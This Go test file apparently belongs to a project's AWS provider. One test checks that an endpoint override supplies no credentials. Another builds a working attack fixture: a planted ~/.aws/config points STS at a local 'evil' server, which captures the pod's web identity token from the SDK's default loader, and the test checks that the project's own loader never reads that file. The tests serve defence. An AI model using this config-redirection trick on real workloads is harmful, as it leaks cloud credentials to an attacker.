package aws_test

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	awssdk "github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/config"

	"github.com/fedbr/fedbr/internal/cloud/aws"
	"github.com/fedbr/fedbr/internal/lab/awsdouble"
)

// TestEndpointImpliesNoCredentials: an endpoint override only says where calls go. With no
// credentials in the environment, a provider pointed at the AWS double fails for want of
// credentials and the double sees no call; given the lab's credentials explicitly
// (environment), the same provider works.
func TestEndpointImpliesNoCredentials(t *testing.T) {
	srv, err := awsdouble.Open(t.TempDir(), awsdouble.Options{})
	if err != nil {
		t.Fatal(err)
	}
	hs := httptest.NewServer(srv)
	t.Cleanup(func() {
		hs.Close()
		_ = srv.Close()
	})
	// An empty SDK environment: no keys, no profile, no shared files, no instance metadata.
	for k, v := range map[string]string{"AWS_ACCESS_KEY_ID": "", "AWS_SECRET_ACCESS_KEY": "", "AWS_SESSION_TOKEN": "", "AWS_PROFILE": "",
		"AWS_CONFIG_FILE": "/nonexistent", "AWS_SHARED_CREDENTIALS_FILE": "/nonexistent", "AWS_WEB_IDENTITY_TOKEN_FILE": "",
		"AWS_CONTAINER_CREDENTIALS_FULL_URI": "", "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI": "", "AWS_EC2_METADATA_DISABLED": "true"} {
		t.Setenv(k, v)
	}
	describe := func() error {
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		defer cancel()
		p, err := aws.New(ctx, aws.Config{Region: srv.Options().Region, Endpoint: hs.URL, MaxAttempts: 1, RetryMode: "standard"})
		if err != nil {
			return err
		}
		_, err = p.DescribeSnapshots(ctx, []string{"snap-0a1b2c3d4e5f60001"})
		return err
	}
	if err := describe(); err == nil || !strings.Contains(strings.ToLower(err.Error()), "credentials") {
		t.Fatalf("describe without credentials = %v; want a credentials error", err)
	}
	if n := srv.Stats().Calls["DescribeSnapshots"]; n != 0 {
		t.Fatalf("the double saw %d DescribeSnapshots calls without credentials", n)
	}
	for _, kv := range awsdouble.CredentialsEnv() {
		k, v, _ := strings.Cut(kv, "=")
		t.Setenv(k, v)
	}
	if err := describe(); err != nil {
		t.Fatalf("describe with the lab's credentials: %v", err)
	}
}

// TestSharedConfigFilesAreNeverRead: a template author who could choose a step pod's HOME and
// files (issue 38: env HOME, an annotation written into $HOME/.aws/config by a downward-API
// volume) names an STS endpoint of theirs in that file, for the web identity token's exchange.
// Each loader runs in a process of its own started with that HOME, as a step's would (the SDK
// finds the file from HOME as the process starts). The SDK's own loader sends
// AssumeRoleWithWebIdentity, with the token, there: the attack works, which the test shows
// first. LoadConfig must not read the file: the same exchange, ended (it fails, with no AWS to
// reach), sent the attacker nothing.
func TestSharedConfigFilesAreNeverRead(t *testing.T) {
	if loader := os.Getenv("FEDBR_TEST_AWS_LOADER"); loader != "" {
		retrieveWith(t, loader)
		return
	}
	var mu sync.Mutex
	var captured []string
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_ = r.ParseForm()
		mu.Lock()
		captured = append(captured, r.Form.Get("Action")+" token="+r.Form.Get("WebIdentityToken"))
		mu.Unlock()
		http.Error(w, "<ErrorResponse><Error><Code>AccessDenied</Code></Error></ErrorResponse>", http.StatusForbidden)
	}))
	t.Cleanup(evil.Close)
	home := t.TempDir()
	if err := os.MkdirAll(filepath.Join(home, ".aws"), 0o700); err != nil {
		t.Fatal(err)
	}
	cfg := "[default]\nservices = attacker\n\n[services attacker]\nsts =\n  endpoint_url = " + evil.URL + "\n"
	if err := os.WriteFile(filepath.Join(home, ".aws", "config"), []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
	token := filepath.Join(home, "token")
	if err := os.WriteFile(token, []byte("the-pods-web-identity-token"), 0o600); err != nil {
		t.Fatal(err)
	}
	// The step's environment as IRSA sets it, the HOME the template chose, and no other AWS_.
	env := []string{"HOME=" + home, "AWS_ROLE_ARN=arn:aws:iam::123456789012:role/fedbr-steps", "AWS_WEB_IDENTITY_TOKEN_FILE=" + token,
		"AWS_ROLE_SESSION_NAME=step", "AWS_MAX_ATTEMPTS=1", "AWS_EC2_METADATA_DISABLED=true"}
	for _, kv := range os.Environ() {
		if !strings.HasPrefix(kv, "AWS_") && !strings.HasPrefix(kv, "HOME=") {
			env = append(env, kv)
		}
	}
	run := func(loader string) []string {
		t.Helper()
		mu.Lock()
		captured = nil
		mu.Unlock()
		cmd := exec.Command(os.Args[0], "-test.run=^TestSharedConfigFilesAreNeverRead$", "-test.v")
		cmd.Env = append(env, "FEDBR_TEST_AWS_LOADER="+loader)
		out, err := cmd.CombinedOutput()
		if err != nil || !strings.Contains(string(out), "retrieve ended: ") {
			t.Fatalf("the %s loader's process: %v\n%s", loader, err, out)
		}
		mu.Lock()
		defer mu.Unlock()
		return slices.Clone(captured)
	}
	// The fixture is a working attack: the SDK's default loader reads $HOME/.aws/config.
	if got := run("sdk"); len(got) == 0 || !strings.Contains(got[0], "AssumeRoleWithWebIdentity token=the-pods-web-identity-token") {
		t.Fatalf("the attacker's STS saw %q from the SDK's default loader; want the token's exchange (the fixture does not attack)", got)
	}
	if got := run("fedbr"); len(got) != 0 {
		t.Fatalf("LoadConfig read $HOME/.aws/config: the attacker's STS received %q", got)
	}
}

// retrieveWith loads the AWS configuration with loader (sdk: the SDK's default loader; fedbr:
// LoadConfig) and retrieves credentials once, in TestSharedConfigFilesAreNeverRead's child.
func retrieveWith(t *testing.T, loader string) {
	var ac awssdk.Config
	var err error
	if loader == "sdk" {
		ac, err = config.LoadDefaultConfig(context.Background(), config.WithRegion("us-west-2"))
	} else {
		ac, err = aws.LoadConfig(context.Background(), nil, "us-west-2")
	}
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	_, err = ac.Credentials.Retrieve(ctx)
	fmt.Printf("retrieve ended: %v\n", err)
}
